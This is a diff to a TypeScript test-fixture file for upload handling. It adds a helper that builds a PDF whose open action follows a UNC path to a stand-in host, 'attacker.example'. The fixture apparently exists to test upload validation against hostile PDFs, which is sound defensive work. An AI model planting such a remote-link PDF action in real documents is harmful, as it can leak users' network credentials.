@@ -47,3 +47,10 @@ export function oversizedPngFile(name = 'huge.png'): UploadFile {
   const header = Buffer.from(PNG_8X8_BASE64, 'base64')
   return { name, mimeType: 'image/png', buffer: Buffer.concat([header, Buffer.alloc(2 * 1024 * 1024 + 10)]) }
 }
+
+/** A well-formed PDF whose opening action follows a link to a file on another machine (a UNC path). */
+export function pdfWithLinkToAnotherFile(name = 'linked.pdf'): UploadFile {
+  const pdf = pdfFile(name).buffer.toString('latin1')
+  const linked = pdf.replace('<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /GoToR /F (\\\\\\\\attacker.example\\\\share\\\\x.pdf) /D [0 /Fit] >> >>')
+  return { name, mimeType: 'application/pdf', buffer: Buffer.from(linked, 'latin1') }
+}
